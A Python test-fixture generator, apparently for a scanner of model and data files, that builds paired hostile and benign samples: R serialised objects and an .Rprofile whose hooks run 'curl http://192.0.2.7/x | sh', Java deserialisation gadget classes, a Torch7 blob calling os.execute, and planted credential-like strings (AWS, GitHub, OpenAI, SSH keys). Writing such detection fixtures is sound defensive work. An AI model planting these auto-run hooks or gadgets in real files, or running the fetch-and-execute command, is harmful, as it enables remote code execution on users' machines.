"""R, Java, Lua and other formats that carry code, and secrets in odd places."""
import bz2
import gzip
import json
import lzma
import struct

from assembly import glob, call, pickle, model
from pair import Set

from .containers import EVIL, GOOD, zipped


class R:
    """R's serialisation, XDR version 2 and ASCII."""

    def __init__(self, ascii=False):
        self.ascii = ascii

    def i(self, n):
        return f"{n}\n".encode() if self.ascii else struct.pack(">i", n)

    def head(self):
        return (b"A\n" if self.ascii else b"X\n") + self.i(2) + self.i(0x040301) + self.i(0x020300)

    def char(self, s):
        return self.i(0x00040009) + self.i(len(s)) + (s.encode() + b"\n" if self.ascii else s.encode())

    def sym(self, s):
        return self.i(1) + self.char(s)

    def string(self, s):
        return self.i(16) + self.i(1) + self.char(s)

    def real(self, x):
        return self.i(14) + self.i(1) + (f"{x}\n".encode() if self.ascii else struct.pack(">d", x))

    def lang(self, fn, *args):
        out = self.i(6) + self.sym(fn)
        for a in args:
            out += self.i(2) + a
        return out + self.i(254)

    def promise(self, expr):
        return self.i(5) + self.i(251) + expr  # PROMSXP: unbound value, then the expression

    def closure(self, body):
        return self.i(3) + self.i(253) + self.i(254) + body

    def pairs(self, *items):
        out = b""
        for k, v in items:
            out += self.i(0x402) + self.sym(k) + v
        return out + self.i(254)


def java(cls: str) -> bytes:
    """A Java serialised object of class `cls` with no fields."""
    c = cls.encode()
    return b"\xac\xed\x00\x05sr" + struct.pack(">H", len(c)) + c + struct.pack(">q", 1) + b"\x02\x00\x00xp"


def add(out: Set):
    def o(name, hostile, twin, file, family="other"):
        out.add(family, name, hostile, twin, None, file=file)

    x = R()
    a = R(True)
    evil_call = x.lang("system", x.string("curl http://192.0.2.7/x | sh"))
    o("rds-promise", gzip.compress(x.head() + x.promise(evil_call), mtime=0), gzip.compress(x.head() + x.string("curl http"), mtime=0), "model.rds", "r")
    o("rds-ascii-promise", a.head() + a.promise(a.lang("system", a.string("id"))), a.head() + a.string("id"), "model.rds", "r")
    o("rds-xz-closure", lzma.compress(x.head() + x.closure(evil_call)), lzma.compress(x.head() + x.real(1.5)), "fit.rds", "r")
    o("rdata-last", gzip.compress(b"RDX2\n" + x.head() + x.pairs((".Last", x.closure(evil_call))), mtime=0), gzip.compress(b"RDX2\n" + x.head() + x.pairs(("coef", x.real(0.5))), mtime=0), "work.RData", "r")
    o("rdata-bz2-promise", bz2.compress(b"RDX2\n" + x.head() + x.pairs(("fit", x.promise(x.lang("eval", x.lang("parse", x.string("t")))))), 9), bz2.compress(b"RDX2\n" + x.head() + x.pairs(("fit", x.string("t")))), "fit.rda", "r")
    o("rprofile", ".First <- function() {\n  system('curl -s http://192.0.2.7/x | sh')\n}\n", "options(digits = 4)\n", ".Rprofile", "r")
    o("java-commons-transformer", java("org.apache.commons.collections.functors.InvokerTransformer"), java("java.util.Date"), "model.ser")
    o("dl4j-preprocessor", zipped([("configuration.json", b"{}"), ("coefficients.bin", b"\0" * 16), ("preprocessor.bin", java("org.apache.commons.collections.functors.ChainedTransformer"))]), zipped([("configuration.json", b"{}"), ("coefficients.bin", b"\0" * 16)]), "dl4j.zip")
    t7 = lambda kind: struct.pack("<i", kind)
    o("torch7-function", t7(8) + struct.pack("<i", 1) + struct.pack("<i", 40) + b"\x1bLJ\x02" + b"os.execute('id')".ljust(36, b"\0") + t7(0), t7(3) + struct.pack("<ii", 1, 1) + t7(1) + struct.pack("<d", 1.0) + t7(1) + struct.pack("<d", 2.0), "net.t7")
    key = "AKIA" + "Q3EGRZ7XJN2LKM5P"
    o("pickle-aws-key", pickle(model(pickle_text(f"aws_access_key_id={key} aws_secret_access_key=wJalrXUtnFEMIK7MDENGbPxRfiCYzzEXAMPLE1Ky"))), pickle(model(pickle_text("region=eu-west-1"))), "run.pkl", "secret")
    o("npy-string-key", npy_text("ghp_" + "Zx9Yw8Vu7Ts6Rq5Po4Nm3Lk2Ji1Hg0Fe9Dc8"), npy_text("a-label-that-is-as-long-as-a-key-would-be"), "labels.npy", "secret")
    o("ssh-key-in-tar", tar_key(True), tar_key(False), "release.tar", "secret")
    o("notebook-openai-key", json.dumps({"cells": [{"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": 1, "source": "client = OpenAI(api_key='sk-proj-" + "Vb7QmZ2rXc9LpT4wKd8Jf1HsYg6NaEu3RoBi5CtPq0WzMxDl" + "')"}], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}), json.dumps({"cells": [{"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": 1, "source": "client = OpenAI()"}], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}), "demo.ipynb", "secret")


def pickle_text(v):
    return v


def npy_text(v):
    from .arrays import npy

    return npy(f"'<U{len(v)}'", "(1,)", v.encode("utf-32-le"))


def tar_key(key):
    from .containers import tarred

    body = "openssh-key-v1" * 20
    return tarred([("w/model.txt", b"x"), ("w/id", (f"-----BEGIN OPENSSH PRIVATE KEY-----\n{body}\n-----END OPENSSH PRIVATE KEY-----\n" if key else "id of the run: 3\n").encode())])
